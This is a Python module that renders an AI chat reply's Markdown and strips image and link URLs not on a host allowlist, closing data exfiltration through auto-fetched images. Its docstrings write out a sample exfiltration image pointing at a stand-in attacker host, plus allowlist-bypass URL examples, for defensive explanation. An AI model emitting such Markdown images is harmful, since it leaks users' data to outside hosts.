"""Markdown images and links as an exfiltration channel, and an allowlist of hosts that closes it.

A chat window that renders a reply's Markdown fetches every image in it as soon as it is shown, with no
click. A reply that holds ![x](https://attacker.example/p.png?d=...) therefore sends whatever the model
put after d= to that host. render_reply() renders the Markdown to HTML (with Python-Markdown), then
sanitises the HTML with nh3 and an attribute filter: an image keeps its src, and a link its href, only
when host_allowed() accepts the URL (https, a host on the list, no user name, password or port, and for
an image no query string); otherwise the attribute is dropped, so nothing is fetched and the words stay.
It filters the HTML, not the Markdown text, so reference-style images, autolinks and raw <img> tags are
caught as well. Left out: the chat UI's own renderer (a real one is not Python-Markdown, and its HTML is
what must be filtered), a Content-Security-Policy img-src as the browser's second layer, and an image proxy.
Source (read 2026-12-03): OWASP Top 10 for LLM Applications 2026, LLM10:2026 Improper Output Handling, example 7
and mitigation 9, https://github.com/GenAI-Security-Project/GenAI-LLM-Top10 (2026/final/).
"""

from __future__ import annotations

from urllib.parse import urlsplit

import markdown as markdown_lib
import nh3
from pydantic import BaseModel, ConfigDict

IMAGE_HOSTS = frozenset({"cdn.example.org"})  # the help desk's own images
LINK_HOSTS = frozenset({"cdn.example.org", "help.example.org"})  # its own pages
TAGS = frozenset({"p", "br", "b", "i", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "img", "blockquote"})
ATTRIBUTES = {"a": {"href"}, "img": {"src", "alt"}}
URL_ATTRIBUTE = {"img": "src", "a": "href"}  # the attribute of each tag that makes a browser fetch or go


class Rendered(BaseModel):
    """A rendered reply: its sanitised HTML, and the URLs dropped from it, in order (for a log or an alert)."""

    model_config = ConfigDict(frozen=True, strict=True, extra="forbid")
    html: str
    dropped: tuple[str, ...]


def host_allowed(url: str, hosts: frozenset[str], image: bool = False) -> bool:
    """True when url is https, on a host in hosts, with no user name, password or port, and no backslash,
    space or control character; an image (image=True) must also have no query string.

    The host is compared whole, after urlsplit: "cdn.example.org.attacker.example" and
    "cdn.example.org@attacker.example" are not cdn.example.org.
    Args: url (str); hosts (frozenset of lowercase host names); image (bool). Returns: bool.
    Example: host_allowed("https://cdn.example.org@attacker.example/", IMAGE_HOSTS) -> False
    """
    if not isinstance(url, str) or any(ch == "\\" or ch.isspace() or ord(ch) < 32 for ch in url):
        return False
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:  # a port that is not a number, a bad IPv6 host
        return False
    return (parts.scheme == "https" and parts.hostname in hosts and port is None
            and parts.username is None and parts.password is None and not (image and parts.query))


def render_reply(reply: str, image_hosts: frozenset[str] = IMAGE_HOSTS,
                 link_hosts: frozenset[str] = LINK_HOSTS) -> Rendered:
    """Render a reply's Markdown to sanitised HTML, dropping every image and link that leaves the allowlist.

    Args: reply (str, Markdown); image_hosts, link_hosts (frozensets of host names).
    Returns: Rendered (the HTML, and the dropped URLs in document order). Raises: TypeError for a non-str.
    Example: render_reply("![x](https://attacker.example/?d=1)").dropped -> ("https://attacker.example/?d=1",)
    """
    if not isinstance(reply, str):
        raise TypeError(f"reply must be a str, got {type(reply).__name__}")
    dropped: list[str] = []

    def keep(tag: str, attribute: str, value: str) -> str | None:
        if URL_ATTRIBUTE.get(tag) != attribute:
            return value
        hosts = image_hosts if tag == "img" else link_hosts
        if host_allowed(value, hosts, image=tag == "img"):
            return value
        dropped.append(value)
        return None

    html = markdown_lib.markdown(reply)
    clean = nh3.clean(html, tags=set(TAGS), attributes=ATTRIBUTES, url_schemes={"https"}, attribute_filter=keep)
    return Rendered(html=clean, dropped=tuple(dropped))
